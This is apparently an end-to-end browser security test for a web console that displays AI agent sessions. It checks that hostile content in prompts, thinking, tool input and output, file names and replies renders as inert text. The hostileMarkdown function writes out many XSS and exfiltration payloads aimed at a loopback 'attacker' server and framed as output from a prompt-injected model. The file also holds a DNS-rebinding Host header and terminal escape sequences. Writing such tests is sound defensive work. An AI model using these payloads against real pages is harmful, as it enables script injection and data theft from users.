// End to end in headless Chromium against `baton serve`, with a session whose every part is hostile: the
// prompt, the thinking, a tool's input and output, a file name, the title and the reply carry scripts, event
// handlers, javascript:/data: links, an iframe, SVG, <details ontoggle>, CSS url(), media, prefetch links and
// remote images pointing at a loopback "attacker" server. Nothing may run (a window global the payloads set,
// a dialog handler), the attacker must receive nothing, and the page must not even try (no CSP violation: the
// sanitizer holds on its own; the policy is the second wall). Real runtime, sidecar, CLI; scripted API.
import assert from 'node:assert/strict';
import { createServer, request } from 'node:http';
import { join } from 'node:path';
import { after, before } from 'node:test';
import {
  batonBinary,
  onStop,
  pathSteps,
  sendPrompt,
  shotPath,
  startBaton,
  startBrowser,
  startFakeApi,
  stopAll,
  stopOnSignals,
  tempDir,
  waitForTurnEnds,
} from './harness.mjs';

const TURN_MS = 45_000;

let context;
let page;
let url;
let project;
let attacker;
const attackerHits = [];
const dialogs = [];
const pageErrors = [];

stopOnSignals();

/** A loopback server that records every request and connection attempt made to it. */
async function startAttacker() {
  const server = createServer((req, res) => {
    attackerHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  server.on('upgrade', (req, socket) => {
    attackerHits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  server.on('connection', (socket) => socket.on('error', () => undefined));
  await new Promise((res) => server.listen(0, '127.0.0.1', () => res(undefined)));
  onStop(() => new Promise((res) => server.close(() => res(undefined))));
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return `http://127.0.0.1:${port}`;
}

/** Everything a prompt-injected model might write into a reply. */
function hostileMarkdown(a) {
  return [
    `<img src="${a}/title" onerror="window.__pwned='title'"> Report ready.`,
    '',
    `![chart](${a}/exfil?d=secret-from-the-session)`,
    '',
    `<img src="${a}/html-img" onerror="window.__pwned='img'"> <img src=x onerror="alert('img-onerror')">`,
    `<img srcset="${a}/srcset 1x"> <picture><source srcset="${a}/picture"><img src="${a}/picture-img"></picture>`,
    '<script>window.__pwned = "script"; alert("script")</script>',
    `<iframe src="${a}/iframe"></iframe><iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
    `<svg onload="window.__pwned='svg'"><image href="${a}/svg-image"/><use href="${a}/svg-use#x"/></svg>`,
    `<details open ontoggle="window.__pwned='details'; alert('details')"><summary>more</summary>hidden</details>`,
    `<div style="background:url(${a}/css-url)">styled</div>`,
    `<style>@import url(${a}/css-import); body { background: url(${a}/css-bg) } @font-face { font-family: x; src: url(${a}/font) }</style>`,
    `<link rel="prefetch" href="${a}/prefetch"><link rel="stylesheet" href="${a}/stylesheet"><link rel="preload" as="image" href="${a}/preload">`,
    `<video poster="${a}/poster" src="${a}/video" autoplay></video><audio src="${a}/audio" autoplay></audio>`,
    `<object data="${a}/object"></object><embed src="${a}/embed">`,
    `<input type="image" src="${a}/input-image"><table background="${a}/table-bg"><tr><td>cell</td></tr></table>`,
    `<meta http-equiv="refresh" content="0;url=${a}/refresh"><base href="${a}/base/">`,
    `<form action="${a}/form"><button>send</button></form>`,
    '',
    '',
    `Links: [outside](https://example.invalid/page) [js link](javascript:window.__pwned='js-link') [data link](data:text/html,<script>alert(1)</script>) <a href="javascript:alert('a-js')">a js</a>`,
    '',
    'Inline image: ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)',
    '',
    // Last: its unclosed <style> swallows whatever follows.
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
  ].join('\n');
}

before(async () => {
  const bin = batonBinary();
  const tools = tempDir('tools');
  attacker = await startAttacker();
  const apiUrl = await startFakeApi(join(tools, 'baton-fakeapi'));
  ({ url } = await startBaton({ apiUrl, bin }));
  project = tempDir('project');
  const browser = await startBrowser();
  context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
  // Outside links open in a new tab; answer them here so nothing leaves the machine.
  await context.route('https://example.invalid/**', (route) => route.fulfill({ status: 200, contentType: 'text/plain', body: 'outside' }));
  // Runs before the page's own scripts, outside its CSP: records every violation the page reports.
  await context.addInitScript(() => {
    const w = /** @type {any} */ (window);
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      // DOMPurify parses untrusted HTML in a document of its own, where nothing loads or runs; Chromium still
      // checks that document's inline handlers, styles and <base> against the page's policy and reports them
      // here, aimed at the page's document. Those are left out; anything else (a URL the page tried to
      // load, an element in the page itself, eval) is a real attempt.
      const inline = e.blockedURI === 'inline' && /-(attr|elem)$/.test(e.violatedDirective);
      if (e.target === document && (inline || e.violatedDirective === 'base-uri')) {
        return;
      }
      const where = e.target instanceof Element ? `<${e.target.localName}>` : String(e.target);
      w.__violations.push(`${e.violatedDirective} ${e.blockedURI} at ${where}`);
    });
  });
  page = await context.newPage();
  page.on('pageerror', (err) => pageErrors.push(String(err)));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.setDefaultTimeout(TURN_MS);
});

after(async () => {
  if (page !== undefined) await page.screenshot({ path: shotPath('hostile-last') }).catch(() => undefined);
  await stopAll();
});

/** Scrolls the (virtualized) transcript to its end if it is not there, so the newest rows render. */
async function followLatest() {
  const latest = page.getByRole('button', { name: /Latest/ });
  // It may vanish on its own as the list settles at the end; that is as good as the click.
  if (await latest.isVisible()) await latest.click({ timeout: 5_000 }).catch(() => undefined);
}

const send = (text) => sendPrompt(page, text);
const waitForTurnEnd = (count) => waitForTurnEnds(page, count);

/** Nothing ran, nothing was fetched, nothing was even attempted by the page itself. */
async function assertInert(when) {
  assert.equal(await page.evaluate(() => /** @type {any} */ (window).__pwned), undefined, `${when}: a hostile script ran`);
  assert.deepEqual(dialogs, [], `${when}: a hostile script opened a dialog`);
  assert.deepEqual(await page.evaluate(() => /** @type {any} */ (window).__violations), [], `${when}: the page tried what its CSP forbids`);
  assert.deepEqual(attackerHits, [], `${when}: the attacker server was reached`);
  assert.deepEqual(pageErrors, [], `${when}: page errors`);
}

const step = pathSteps(() => page, 'hostile-failed-');

step('the page is served with its security headers, and only to its own Host', async () => {
  const response = await page.goto(url);
  assert.equal(response?.status(), 200);
  const headers = response.headers();
  const csp = headers['content-security-policy'] ?? '';
  for (const directive of [
    "default-src 'self'",
    "script-src 'self'",
    "img-src 'self' data: blob:",
    "connect-src 'self'",
    "frame-src 'none'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'none'",
    "frame-ancestors 'none'",
  ]) {
    assert.ok(
      csp
        .split(';')
        .map((d) => d.trim())
        .includes(directive),
      `CSP ${csp} lacks ${directive}`,
    );
  }
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.equal(headers['referrer-policy'], 'no-referrer');
  await page.getByTestId('connection').filter({ hasText: 'Connected' }).waitFor();
  assert.equal(new URL(page.url()).hash, '', 'the token left the address bar');

  const { port } = new URL(url);
  const status = await new Promise((res, rej) => {
    const req = request({ host: '127.0.0.1', port, path: new URL(url).pathname + new URL(url).search, headers: { Host: `evil.example:${port}` } }, (r) => {
      r.resume();
      res(r.statusCode);
    });
    req.on('error', rej);
    req.end();
  });
  assert.equal(status, 421, 'a rebound name is refused');
});

step('a hostile prompt, thinking, title and reply render as inert text', async () => {
  await page.getByTestId('new-session').click();
  await page.getByTestId('new-session-folder').fill(project);
  await page.getByTestId('new-session-start').click();
  await page.getByTestId('session-live').waitFor();
  await send(`${hostileMarkdown(attacker)}\n\n[think-echo]`);
  const reply = page.getByTestId('assistant-message').filter({ hasText: 'Report ready.' });
  await reply.waitFor();
  await waitForTurnEnd(1);

  // The remote image is a placeholder naming its host; the embedded one renders.
  const placeholder = reply.locator('a.remote-image').filter({ hasText: 'chart' });
  await placeholder.waitFor();
  assert.match(await placeholder.textContent(), new RegExp(`chart.*${new URL(attacker).host.replace(/\./g, '\\.')}`));
  const dot = reply.locator('img[src^="data:image/png"]');
  assert.equal(await dot.count(), 1);
  await page.waitForFunction(() => /** @type {HTMLImageElement | null} */ (document.querySelector('img[src^="data:image/png"]'))?.complete === true);
  assert.equal(await dot.evaluate((img) => img.naturalWidth), 1, 'a data: image renders under the CSP');
  assert.equal(await reply.locator('script, iframe, svg, object, embed, video, audio, link, style, meta, base, form, picture, source').count(), 0);
  assert.equal(await reply.locator('[style], [srcset], [poster], [background]').count(), 0);

  // Prompt and thinking are shown as the text they are.
  assert.match(await page.getByTestId('user-message').first().textContent(), /<script>window.__pwned/);
  const thinking = page.getByTestId('thinking').first();
  await thinking.locator('summary').click();
  assert.match(await thinking.textContent(), /<img src="http:\/\/127\.0\.0\.1/);
  await thinking.locator('summary').click(); // folded again, so the transcript follows its end
  await followLatest();
  await page.screenshot({ path: shotPath('hostile-01-reply') });
  await assertInert('after the reply');
});

step('hostile tool input, output and file name render as inert text', async () => {
  const bashOut = `<img src=${attacker}/bash-out onerror=alert(9)> ![o](${attacker}/bash-md) <iframe src=${attacker}/bash-iframe>`;
  const fileName = `<img\tsrc=${attacker}/fname\tonerror=alert(10)>.txt`;
  const fileBody = `<img src=${attacker}/write-content onerror=alert(11)><svg onload=alert(12)>`;
  await send(`[bash printf '%s\\n' '${bashOut}'] [write ${fileName} ${fileBody}]`);
  // The CLI asks before the Write (a read-only printf it may run unasked); each card that shows is allowed.
  const results = page.getByTestId('assistant-message').filter({ hasText: 'Tool results:' });
  const card = page.getByTestId('permission-card');
  while ((await results.count()) === 0) {
    await card.or(results).first().waitFor();
    if ((await card.count()) === 0) break;
    const tool = /Write|Create/.test(await card.textContent()) ? 'Write' : 'Bash';
    await card.getByRole('button', { name: 'Allow', exact: true }).click();
    await page
      .getByTestId('permission-row')
      .filter({ hasText: `${tool}: Allowed` })
      .waitFor();
  }
  await page.getByTestId('assistant-message').filter({ hasText: 'Tool results:' }).waitFor();
  await waitForTurnEnd(2);
  const bash = page.locator('[data-testid="tool-card"][data-tool="Bash"]').first();
  assert.match(await bash.textContent(), /bash-out onerror=alert\(9\)/, 'the output shows as text');
  const write = page.locator('[data-testid="tool-card"][data-tool="Write"]').first();
  assert.match(await write.textContent(), /onerror=alert\(10\)>\.txt/, 'the file name shows as text');
  assert.equal(await page.locator('.tool-card img, .tool-card iframe, .tool-card svg').count(), 0);
  await page.screenshot({ path: shotPath('hostile-02-tools') });
  await assertInert('after the tools');
});

step('links open outside the console, only for http(s)', async () => {
  const reply = page.getByTestId('assistant-message').filter({ hasText: 'Report ready.' });
  const jsLink = reply.getByText('js link', { exact: true });
  assert.equal(await jsLink.getAttribute('href'), null, 'a javascript: link keeps no address');
  await jsLink.click();
  await reply.getByText('a js', { exact: true }).click();
  const before = page.url();
  const [popup] = await Promise.all([context.waitForEvent('page'), reply.getByRole('link', { name: 'outside' }).click()]);
  await popup.waitForLoadState();
  assert.equal(popup.url(), 'https://example.invalid/page', 'the first tab opened is the http(s) link');
  assert.equal(await popup.evaluate(() => window.opener), null, 'opened without an opener');
  await popup.close();
  assert.equal(page.url(), before, 'the console stayed where it was');
  await assertInert('after clicking links');
});

step('after a reload the reopened session is still inert and the title is text', async () => {
  await page.reload();
  await page.getByTestId('connection').filter({ hasText: 'Connected' }).waitFor();
  const entry = page
    .locator('[data-testid="session-entry"]')
    .filter({ has: page.locator('.dot.live') })
    .first();
  await entry.click();
  await page.getByTestId('assistant-message').filter({ hasText: 'Report ready.' }).locator('a.remote-image').first().waitFor();
  await page.getByTestId('assistant-message').filter({ hasText: 'Tool results:' }).waitFor();
  const title = await page.locator('.session-header h1').textContent();
  assert.match(title, /<img src=/, 'the hostile title shows as text');
  await page.screenshot({ path: shotPath('hostile-03-reopened') });
  await assertInert('after reopening');
});

step('terminal colours in a tool’s output render as colours, its other escapes never as text, narrow too', async () => {
  // printf writes the ESC bytes: a bold red word, a window title (OSC), an erase-line, then plain text. Its
  // brackets are written as octal escapes (\\133 [, \\135 ]): the scripted API's marker ends at a bare one.
  await send("[bash printf '\\033\\1331;31mred\\033\\1330m \\033\\1350;pwned-title\\007\\033\\1332Kplain\\n']");
  const bash = page.locator('[data-testid="tool-card"][data-tool="Bash"]').filter({ hasText: 'pwned-title' });
  const output = bash.locator('.tool-output pre');
  const card = page.getByTestId('permission-card');
  while ((await output.count()) === 0) {
    await card.or(output).first().waitFor();
    if ((await card.count()) > 0) await card.getByRole('button', { name: 'Allow', exact: true }).click();
  }
  await followLatest();
  await output.filter({ hasText: 'plain' }).waitFor();
  assert.equal(await output.textContent(), 'red plain');
  const red = output.locator('span', { hasText: 'red' });
  const styled = await red.evaluate((span) => {
    const probe = document.createElement('span');
    probe.style.color = 'var(--ansi-red)';
    span.after(probe);
    const want = getComputedStyle(probe).color;
    probe.remove();
    return { color: getComputedStyle(span).color, want, weight: getComputedStyle(span).fontWeight };
  });
  assert.equal(styled.color, styled.want, 'the theme’s red, set under the CSP');
  assert.equal(styled.weight, '600');
  // The scripted reply quotes the output, escapes and all: they are dropped there too.
  const reply = page.getByTestId('assistant-message').filter({ hasText: 'Tool results: [ok] red plain' });
  await reply.waitFor();
  const quoted = await reply.textContent();
  assert.ok(!quoted.includes('\u001b'), `an escape is left in the reply: ${JSON.stringify(quoted)}`);
  assert.doesNotMatch(quoted, /\[1;31m|pwned-title/);
  await page.screenshot({ path: shotPath('hostile-04-ansi') });
  // A narrow window wraps the rows rather than scrolling the conversation sideways.
  await page.setViewportSize({ width: 420, height: 860 });
  await output.waitFor();
  const overflow = await page.evaluate(() => {
    const c = document.querySelector('.conversation');
    return c === null ? -1 : c.scrollWidth - c.clientWidth;
  });
  assert.ok(overflow >= 0 && overflow <= 1, `the conversation scrolls sideways by ${overflow}px`);
  await page.screenshot({ path: shotPath('hostile-05-narrow') });
  await page.setViewportSize({ width: 1280, height: 860 });
  await assertInert('after terminal output');
});
